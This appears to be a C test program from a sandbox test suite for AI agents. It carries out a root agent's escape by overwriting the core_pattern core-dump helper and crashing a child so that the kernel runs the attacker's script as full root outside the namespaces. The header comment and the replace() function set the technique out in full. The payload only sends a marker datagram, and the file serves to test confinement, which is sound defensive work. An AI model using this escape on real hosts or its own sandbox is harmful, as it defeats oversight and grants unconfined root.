/* helper-replace: a root agent's way out through the host's files (issue 11
 * class 5; hostile re-run h-rerun2's coredump cell). Hosts with
 * systemd-coredump or apport pipe core dumps into a root-owned program; a
 * root agent keeps CAP_DAC_OVERRIDE, so on a writable file system it can
 * replace that program, crash a child, and the kernel runs its copy as full
 * root outside the filter, the tree and the namespaces. No sysctl is
 * written and no trapped call is made.
 *
 *   helper-replace install DEST  root service (guest cell): writes a
 *                                harmless helper (a shell script that
 *                                discards the core) to HELPER, points
 *                                kernel.core_pattern at it ("|HELPER %p"),
 *                                writes DEST to DEST_FILE, holds a UDP
 *                                socket on 127.0.0.1:9998 and sleeps
 *   helper-replace replace [DIR] the agent: with DIR, first writes a file
 *                                in DIR (a path its caller declared
 *                                writable: must work); then overwrites the
 *                                program core_pattern names with a script
 *                                that runs "helper-replace send", or, where
 *                                that open is refused, renames a new file
 *                                over it; crashes a child either way and
 *                                waits 2 s for the helper. Exits 0 when
 *                                DIR (if given) was written, 1 otherwise
 *   helper-replace send          the replaced helper, started by the
 *                                kernel: one UDP datagram to DEST:9999
 */
#include "agentlib.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELPER_DIR "/tmp/usr-lib"
#define HELPER HELPER_DIR "/coredump-helper"
#define DEST_FILE HELPER_DIR "/helper-replace.dest"
#define CORE_PATTERN "/proc/sys/kernel/core_pattern"

static const char harmless[] = "#!/bin/sh\ncat >/dev/null\n";
static const char escape[] = "#!/bin/sh\nexec /agents/helper-replace send\n";

static int write_all(int fd, const char *s)
{
	size_t n = strlen(s);

	return write(fd, s, n) == (ssize_t)n ? 0 : -1;
}

static int install(const char *dest)
{
	int fd;
	FILE *f;

	mkdir(HELPER_DIR, 0755);
	fd = open(HELPER, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0 || write_all(fd, harmless) != 0 || fchmod(fd, 0755) != 0 || close(fd) != 0) {
		perror(HELPER);
		return 1;
	}
	f = fopen(DEST_FILE, "w");
	if (!f || fprintf(f, "%s\n", dest) < 0 || fclose(f) != 0) {
		perror(DEST_FILE);
		return 1;
	}
	fd = open(CORE_PATTERN, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write_all(fd, "|" HELPER " %p") != 0 || close(fd) != 0) {
		perror(CORE_PATTERN);
		return 1;
	}
	agent_hold_ready();
	return 0;
}

/* The program a "|PROG ARGS" core_pattern names, in prog; 0, or -1. */
static int piped_program(char *prog, size_t len)
{
	char cp[512] = "";
	int fd = open(CORE_PATTERN, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, cp, sizeof(cp) - 1) : -1;

	if (fd >= 0)
		close(fd);
	if (n <= 1 || cp[0] != '|')
		return -1;
	cp[n] = '\0';
	cp[strcspn(cp, " \n")] = '\0';
	snprintf(prog, len, "%s", cp + 1);
	return 0;
}

static int replace(const char *prog)
{
	char tmp[600];
	int fd = open(prog, O_WRONLY | O_TRUNC | O_CLOEXEC);
	long r;

	r = fd >= 0 && write_all(fd, escape) == 0 ? 0 : -1;
	agent_log("overwrite_helper", prog, r, errno, NULL);
	if (fd >= 0)
		close(fd);
	if (r == 0)
		return 0;
	/* The directory's way: a new file renamed over the program. */
	snprintf(tmp, sizeof(tmp), "%s.new", prog);
	fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	r = fd >= 0 && write_all(fd, escape) == 0 && fchmod(fd, 0755) == 0 ? 0 : -1;
	if (fd >= 0)
		close(fd);
	if (r == 0)
		r = rename(tmp, prog);
	agent_log("rename_over_helper", prog, r, errno, NULL);
	return (int)r;
}

static int declared_write(const char *dir)
{
	char path[600];
	int fd, r;

	snprintf(path, sizeof(path), "%s/written-by-agent", dir);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	r = fd >= 0 && write_all(fd, "agent\n") == 0 ? 0 : -1;
	agent_log("write_declared", path, r, errno, NULL);
	if (fd >= 0)
		close(fd);
	return r;
}

int main(int argc, char **argv)
{
	char prog[512];
	int rc = 0;

	if (argc == 2 && strcmp(argv[1], "send") == 0) {
		agent_helper_send(DEST_FILE,
				  "helper-replace: the replaced core_pattern helper ran");
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "install") == 0)
		return install(argv[2]);
	if (!(argc == 2 || argc == 3) || strcmp(argv[1], "replace") != 0)
		return agent_usage("install DEST | replace [DIR] | send");
	agent_init("helper-replace");
	if (argc == 3 && declared_write(argv[2]) != 0)
		rc = 1;
	/* The service sets core_pattern in the background: wait for it. */
	for (int i = 0; i < 50 && piped_program(prog, sizeof(prog)) != 0; i++)
		usleep(100 * 1000);
	if (piped_program(prog, sizeof(prog)) != 0) {
		agent_log("read_core_pattern", CORE_PATTERN, -1, ENOENT, NULL);
		return 1;
	}
	replace(prog);
	agent_crash_child();
	return rc;
}
